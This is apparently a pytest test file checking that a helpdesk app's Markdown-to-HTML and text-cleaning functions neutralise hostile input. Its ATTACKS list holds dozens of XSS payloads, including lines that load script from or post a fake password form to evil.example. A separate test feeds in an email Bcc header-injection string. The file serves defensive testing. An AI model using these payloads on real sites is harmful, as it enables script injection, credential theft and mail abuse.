"""What people typed never becomes what browsers run."""

import html
import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from helpdesk.domain.text import clean, excerpt, one_line, slug, to_html

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "![x](javascript:alert(1))",
    '![x](https://evil.example/pixel.png "tracking")',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "<javascript:alert(1)>",
    '[x](https://a.example "onmouseover=alert(1)")',
    '[x](https://a.example/" onmouseover="alert(1))',
    "[x]: javascript:alert(1)\n\n[x]",
    '<a href="javascript:alert(1)">x</a>',
    "<iframe src=https://evil.example></iframe>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<style>body{display:none}</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<object data=x></object><embed src=x><base href=//evil.example>",
    "<form action=//evil.example><input name=password><button>Sign in</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<details open ontoggle=alert(1)>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202e<script>alert(1)</script>",
]
HARMLESS = {
    "a", "b", "blockquote", "br", "code", "del", "em", "h1", "h2", "h3", "h4", "hr", "i", "li", "ol", "p", "pre", "s",
    "strong", "table", "tbody", "td", "th", "thead", "tr", "ul",
}  # fmt: skip


class _Seen(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in HARMLESS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            if name not in ("href", "title", "rel"):
                self.problems.append(f"{tag} {name}")
            if name == "href" and not re.match(r"(https?:|mailto:|tel:|[^:]*$)", html.unescape(value or ""), re.I):
                self.problems.append(f"{tag} {value}")

    def handle_comment(self, data: str) -> None:
        self.problems.append("comment")


def _problems(markdown: str) -> list[str]:
    seen = _Seen()
    seen.feed(to_html(markdown))
    return seen.problems


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_come_out_harmless(attack: str) -> None:
    assert _problems(attack) == []
    assert _problems(f"**Hello**\n\n> {attack}\n\n1. {attack}") == []


@given(st.lists(st.sampled_from([*ATTACKS, "\n", "\n\n", "> ", "* ", "`", "```", "[", "](", ")", "<", '"', "&"])))
def test_attacks_mixed_come_out_harmless(parts: list[str]) -> None:
    assert _problems("".join(parts)) == []


@pytest.mark.parametrize(
    ("markdown", "expected"),
    [
        ("**bold** and *soft*", "<strong>bold</strong> and <em>soft</em>"),
        ("line\nline", "line<br>\nline"),
        ("- one\n- two", "<li>one</li>"),
        ("`code <b>`", "<code>code &lt;b&gt;</code>"),
        ("~~gone~~", "<s>gone</s>"),
        ("2 < 3 & 4 > 1", "2 &lt; 3 &amp; 4 &gt; 1"),
        ("[site](https://a.example)", 'rel="noopener noreferrer nofollow"'),
    ],
)
def test_what_people_mean_stays(markdown: str, expected: str) -> None:
    assert expected in to_html(markdown)


@pytest.mark.parametrize("bomb", ["*a ", "[", "> ", "`", "**_", "[](", "|-", "<", "![[", "1. ", "&#x", "~~a"])
def test_no_text_keeps_a_worker_busy(bomb: str) -> None:
    began = time.process_time()
    to_html((bomb * 30_000)[:30_000])
    assert time.process_time() - began < 2


@pytest.mark.parametrize(
    ("typed", "kept"),
    [
        ("a\x00b", "ab"),
        ("\x07bell\x1b[31m", "bell[31m"),
        ("a\r\nb\rc", "a\nb\nc"),
        ("  x\t ", "x"),
        ("tab\tstays", "tab\tstays"),
        ("lone \ud800 surrogate", "lone ? surrogate"),
        ("Grüße 👋🏽 日本", "Grüße 👋🏽 日本"),
    ],
)
def test_clean(typed: str, kept: str) -> None:
    assert clean(typed) == kept


@given(st.text(st.characters()))
def test_cleaned_texts_fit_the_database(typed: str) -> None:
    kept = clean(typed)
    assert "\x00" not in kept and clean(kept) == kept
    kept.encode()


@pytest.mark.parametrize(
    "typed", ["Subject\r\nBcc: everybody@evil.example", "a\nb", "a\x0bb", "a\u2028b", "a\x85b", "a\x1cb"]
)
def test_one_line_is_one_line(typed: str) -> None:
    assert len(one_line(typed).splitlines()) == 1


@pytest.mark.parametrize(
    ("typed", "length", "expected"),
    [
        ("short", 10, "short"),
        ("exactly10!", 10, "exactly10!"),
        ("eleven char", 10, "eleven ch…"),
        ("# Title\n\n**bold** [link](x)", 40, "Title bold link(x)"),
        ("", 10, ""),
        ("x" * 10_000, 10, "xxxxxxxxx…"),
    ],
)
def test_excerpt(typed: str, length: int, expected: str) -> None:
    assert excerpt(typed, length) == expected
    assert len(excerpt(typed, length)) <= length


@pytest.mark.parametrize(
    ("typed", "expected"), [("Crème Brûlée & Co.", "creme-brulee-co"), ("--a--b--", "a-b"), ("日本", ""), ("../x", "x")]
)
def test_slug(typed: str, expected: str) -> None:
    assert slug(typed) == expected
